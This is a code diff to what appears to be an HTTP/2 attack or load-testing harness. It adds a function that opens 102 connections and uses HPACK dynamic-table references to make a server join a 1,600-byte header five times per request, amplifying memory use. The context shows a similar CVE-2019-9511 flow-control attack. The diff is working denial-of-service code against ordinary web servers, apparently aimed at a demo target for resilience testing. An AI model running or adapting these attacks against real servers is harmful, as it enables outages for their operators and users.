@@ -478,6 +478,17 @@ def delayed_requests(line: Line) -> Script:
     yield start() + b"".join(headers(stream, asked) for stream in first_streams(line))
 
 
+@attack(on=DEMO, connections=102)
+def joined_baggage(line: Line) -> Script:
+    """RFC 9113, 10.5.1: the same, and each request names a field of 1,600 bytes in the dynamic table five times, by a byte each, which
+    the server joins to one list."""
+    asked = line.target.block("GET", "/demo/hello?delay=60000")
+    item = literal(b"baggage", b"a=" + b"x" * 1598, index=True)
+    first, *others = first_streams(line)
+    yield start() + headers(first, asked + item)
+    yield b"".join(headers(stream, asked + b"\xbe" * 5) for stream in others)
+
+
 @attack(on=(*HTTP, *ADMIN), connections=50)
 def data_dribble(line: Line) -> Script:
     """CVE-2019-9511: 100 streams of a connection ask for a large reply, and open their windows by one byte at a time."""
